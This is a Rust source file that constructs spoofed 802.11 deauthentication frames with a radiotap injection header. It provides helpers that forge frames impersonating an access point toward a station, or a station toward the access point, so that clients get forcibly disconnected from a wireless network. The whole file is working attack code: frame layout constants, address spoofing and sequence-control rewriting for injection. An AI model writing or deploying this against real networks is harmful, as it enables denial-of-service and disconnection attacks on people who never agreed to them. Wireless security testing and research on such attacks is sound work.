use std::fmt;

use byteorder::{ByteOrder, LittleEndian};

use crate::error::Result;
use crate::mac::MacAddress;

pub const RTH_LEN: usize = 12;
pub const FRAME_LEN: usize = 38;

const RTH: [u8; RTH_LEN] = [
    0x00, 0x00, /* radiotap version and padding */
    0x0c, 0x00, /* radiotap header length */
    0x04, 0x80, 0x00, 0x00, /* bitmap: rate, tx flags */
    0x02, 0x00, /* rate, 500kbps units */
    0x18, 0x00, /* tx flags */
];

/// Management type, deauthentication subtype.
pub const FRAME_CONTROL_DEAUTH: u16 = 0x00c0;
pub const DURATION: u16 = 0x013a;
/// Class 3 frame received from nonassociated station.
pub const REASON_CLASS3_FROM_NONASSOCIATED: u16 = 0x0007;

const OFFSET_FRAME_CONTROL: usize = 12;
const OFFSET_DURATION: usize = 14;
const OFFSET_ADDRESS_1: usize = 16;
const OFFSET_ADDRESS_2: usize = 22;
const OFFSET_ADDRESS_3: usize = 28;
const OFFSET_SEQUENCE_CONTROL: usize = 34;
const OFFSET_REASON_CODE: usize = 36;

/// Which side of the association a frame impersonates.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub enum Direction {
    /// Sent to the station, spoofed from the access point.
    ToTarget,
    /// Sent to the access point, spoofed from the station.
    ToAccessPoint,
}

impl fmt::Display for Direction {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Direction::ToTarget => write!(f, "target"),
            Direction::ToAccessPoint => write!(f, "access point"),
        }
    }
}

/// A radiotap prefixed deauthentication frame.
///
/// The layout is fixed; after construction only the sequence control field
/// is ever rewritten.
#[derive(Clone, Debug, Eq, PartialEq)]
pub struct Frame([u8; FRAME_LEN]);

impl Frame {
    pub fn deauthentication(dst: &MacAddress, src: &MacAddress, bssid: &MacAddress) -> Self {
        let mut buf = [0u8; FRAME_LEN];
        buf[..RTH_LEN].copy_from_slice(&build_radiotap_header());

        LittleEndian::write_u16(&mut buf[OFFSET_FRAME_CONTROL..], FRAME_CONTROL_DEAUTH);
        LittleEndian::write_u16(&mut buf[OFFSET_DURATION..], DURATION);

        buf[OFFSET_ADDRESS_1..OFFSET_ADDRESS_2].copy_from_slice(&dst.encode());
        buf[OFFSET_ADDRESS_2..OFFSET_ADDRESS_3].copy_from_slice(&src.encode());
        buf[OFFSET_ADDRESS_3..OFFSET_SEQUENCE_CONTROL].copy_from_slice(&bssid.encode());

        LittleEndian::write_u16(
            &mut buf[OFFSET_REASON_CODE..],
            REASON_CLASS3_FROM_NONASSOCIATED,
        );
        Frame(buf)
    }

    pub fn as_bytes(&self) -> &[u8; FRAME_LEN] {
        &self.0
    }

    pub fn radiotap_header(&self) -> &[u8] {
        &self.0[..RTH_LEN]
    }

    pub fn frame_control(&self) -> u16 {
        LittleEndian::read_u16(&self.0[OFFSET_FRAME_CONTROL..])
    }

    pub fn duration(&self) -> u16 {
        LittleEndian::read_u16(&self.0[OFFSET_DURATION..])
    }

    /// Receiver.
    pub fn address_1(&self) -> MacAddress {
        self.address_at(OFFSET_ADDRESS_1)
    }

    /// Transmitter.
    pub fn address_2(&self) -> MacAddress {
        self.address_at(OFFSET_ADDRESS_2)
    }

    /// BSSID.
    pub fn address_3(&self) -> MacAddress {
        self.address_at(OFFSET_ADDRESS_3)
    }

    pub fn sequence_control(&self) -> u16 {
        LittleEndian::read_u16(&self.0[OFFSET_SEQUENCE_CONTROL..])
    }

    pub fn set_sequence_control(&mut self, value: u16) {
        LittleEndian::write_u16(&mut self.0[OFFSET_SEQUENCE_CONTROL..], value);
    }

    pub fn reason_code(&self) -> u16 {
        LittleEndian::read_u16(&self.0[OFFSET_REASON_CODE..])
    }

    fn address_at(&self, offset: usize) -> MacAddress {
        let mut mac = [0u8; 6];
        mac.copy_from_slice(&self.0[offset..offset + 6]);
        MacAddress(mac)
    }
}

impl AsRef<[u8]> for Frame {
    fn as_ref(&self) -> &[u8] {
        &self.0
    }
}

/// Radiotap prefix requesting 1 Mbps and the injection tx flags.
pub const fn build_radiotap_header() -> [u8; RTH_LEN] {
    RTH
}

/// Builds a deauthentication frame from textual addresses.
///
/// Every address is checked before anything is written.
pub fn build_frame(dst: &str, src: &str, bssid: &str) -> Result<Frame> {
    let dst: MacAddress = dst.parse()?;
    let src: MacAddress = src.parse()?;
    let bssid: MacAddress = bssid.parse()?;
    Ok(Frame::deauthentication(&dst, &src, &bssid))
}

/// The frame sent to the station on behalf of the access point.
pub fn build_target_frame(target: &MacAddress, bssid: &MacAddress) -> Frame {
    Frame::deauthentication(target, bssid, bssid)
}

/// The frame sent to the access point on behalf of the station.
pub fn build_ap_frame(target: &MacAddress, bssid: &MacAddress) -> Frame {
    Frame::deauthentication(bssid, target, bssid)
}

pub fn apply_sequence_control(frame: &mut Frame, value: u16) {
    frame.set_sequence_control(value);
}
